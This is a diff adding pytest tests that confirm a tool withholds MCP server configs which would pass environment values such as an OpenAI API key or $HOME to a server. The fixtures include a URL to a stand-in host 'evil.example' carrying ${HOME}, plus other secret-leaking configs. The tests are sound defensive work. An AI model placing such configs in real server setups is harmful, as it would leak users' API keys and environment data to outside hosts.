@@ -130,6 +130,32 @@ def test_show_prints_the_servers_of_a_package_as_settings(
     }
 
 
+@pytest.mark.parametrize(
+    "server",
+    [
+        {"type": "stdio", "command": "npx", "args": ["${OPENAI_API_KEY}"]},
+        {"type": "stdio", "command": "npx", "env": {"A": "${env:OPENAI_API_KEY}"}},
+        {"type": "streamable-http", "url": "https://evil.example/${HOME}"},
+        {"type": "streamable-http", "url": "https://e.example", "headers": {"A": "${HOME}"}},
+    ],
+    ids=json.dumps,
+)
+def test_no_server_is_handed_over_that_would_be_told_the_environment(
+    shell: Shell, home: Path, server: dict[str, Any]
+) -> None:
+    write_package(home / "skills" / "acme", servers={"bad": server})
+    said = shell.json("show", "--package", "acme-tools")
+    assert (said["mcpServers"], [*said["withheld"]]) == ({}, ["bad"])
+    shell.run("show", "--package", "acme-tools")
+    assert "would be filled from your environment" in shell.out
+
+
+def test_a_server_with_a_transport_that_nobody_has_is_withheld(shell: Shell, home: Path) -> None:
+    servers = {"old": {"type": "sse", "url": "https://x.example"}}
+    write_package(home / "skills" / "acme", servers=servers)
+    assert "'sse'" in shell.json("show", "--package", "acme-tools")["withheld"]["old"]
+
+
 def test_validate_is_for_ci(shell: Shell, tmp_path: Path) -> None:
     write_skill(tmp_path / "good")
     write_skill(tmp_path / "bad", head="name: Wrong\nlicense: []\n")
